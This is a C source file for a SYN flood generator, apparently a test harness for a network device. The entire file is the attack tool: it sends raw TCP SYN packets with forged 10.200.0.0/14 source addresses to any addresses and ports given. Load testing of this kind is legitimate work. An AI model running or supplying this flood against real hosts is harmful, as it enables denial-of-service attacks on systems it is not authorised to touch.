/*
 * synflood: sends SYNs from foreign addresses, as if a neighbour's network or a forger sent them
 * through the device: synflood COUNT SECONDS SEED ADDRESS:PORT...
 *
 * They go out evenly over the time, to the destinations in turn, from 10.200.0.0/14 and any port.
 * Nobody answers the replies: this machine doesn't forward. Prints one line of JSON. Needs
 * CAP_NET_RAW (raw(7), IP_HDRINCL).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_DESTINATIONS 16
#define SOURCES 0x0ac80000u /* 10.200.0.0 */
#define SOURCE_MASK 0x0003ffffu
#define PAUSE_NS 1000000
#define MSS_OPTION 4
#define WINDOW 64240
#define TTL 64

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
  uint8_t options[MSS_OPTION];
};

static _Noreturn void die(const char *what) {
  fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
  exit(1);
}

static double now(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

/* xorshift64: the same seed gives the same sources in each run. */
static uint64_t state;
static uint32_t next_random(void) {
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return (uint32_t)(state >> 16);
}

static uint32_t sum(const void *data, size_t length, uint32_t so_far) {
  const uint8_t *bytes = data;
  for (size_t i = 0; i + 1 < length; i += 2) so_far += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  return so_far;
}

/* RFC 9293, 3.1, including the pseudo header. */
static uint16_t checksum(const struct packet *packet) {
  const size_t length = sizeof *packet - sizeof packet->ip;
  uint32_t total = sum(&packet->ip.saddr, 8, (uint32_t)(IPPROTO_TCP + length));
  total = sum(&packet->tcp, length, total);
  while (total >> 16 != 0) total = (total & 0xffff) + (total >> 16);
  return htons((uint16_t)~total);
}

static void send_syn(int fd, const struct sockaddr_in *to) {
  struct packet packet = {
      /* The kernel fills in the identification and the header's checksum. */
      .ip = {.version = 4,
             .ihl = sizeof packet.ip / 4,
             .tot_len = htons(sizeof packet),
             .ttl = TTL,
             .protocol = IPPROTO_TCP,
             .saddr = htonl(SOURCES | (next_random() & SOURCE_MASK)),
             .daddr = to->sin_addr.s_addr},
      .tcp = {.source = htons((uint16_t)(1024 + next_random() % 64512)),
              .dest = to->sin_port,
              .seq = htonl(next_random()),
              .doff = (sizeof packet.tcp + MSS_OPTION) / 4,
              .syn = 1,
              .window = htons(WINDOW)},
      .options = {TCPOPT_MAXSEG, MSS_OPTION, 1460 >> 8, 1460 & 255},
  };
  const struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = to->sin_addr};

  packet.tcp.check = checksum(&packet);
  if (sendto(fd, &packet, sizeof packet, 0, (const struct sockaddr *)&address, sizeof address) <
          0 &&
      errno != ENOBUFS)
    die("sendto");
}

int main(int argc, char **argv) {
  struct sockaddr_in destinations[MAX_DESTINATIONS];
  const int count = argc - 4;

  if (count < 1 || count > MAX_DESTINATIONS) {
    fprintf(stderr, "synflood: usage is in synflood.c\n");
    return 2;
  }
  for (int i = 0; i < count; i++) {
    char *colon = strrchr(argv[4 + i], ':');
    if (colon == NULL) return 2;
    *colon = '\0';
    destinations[i] =
        (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(colon + 1))};
    if (inet_pton(AF_INET, argv[4 + i], &destinations[i].sin_addr) != 1) return 2;
  }
  const uint64_t wanted = strtoull(argv[1], NULL, 10);
  const double seconds = strtod(argv[2], NULL);
  state = strtoull(argv[3], NULL, 10) * 0x9e3779b97f4a7c15u + 1;
  const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) die("socket");

  const double begin = now();
  uint64_t sent = 0;
  while (sent < wanted) {
    const double due = (now() - begin) / seconds * (double)wanted;
    while (sent < wanted && (double)sent < due)
      send_syn(fd, &destinations[sent++ % (uint64_t)count]);
    nanosleep(&(struct timespec){.tv_nsec = PAUSE_NS}, NULL);
  }
  printf("{\"sent\":%" PRIu64 ",\"seconds\":%.3f}\n", sent, now() - begin);
  return 0;
}
